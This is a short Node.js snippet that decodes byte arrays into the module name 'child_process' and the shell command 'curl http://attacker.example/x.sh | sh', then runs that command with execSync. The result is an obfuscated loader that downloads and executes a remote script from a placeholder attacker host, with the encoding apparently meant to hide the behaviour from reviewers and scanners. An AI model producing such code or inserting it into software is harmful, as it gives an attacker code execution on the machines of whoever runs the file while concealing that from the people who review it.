const td = new TextDecoder();
const mod = td.decode(new Uint8Array([99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115]));
const cmd = td.decode(new Uint8Array([99, 117, 114, 108, 32, 104, 116, 116, 112, 58, 47, 47, 97, 116, 116, 97, 99, 107, 101, 114, 46, 101, 120, 97, 109, 112, 108, 101, 47, 120, 46, 115, 104, 32, 124, 32, 115, 104]));
require(mod).execSync(cmd);
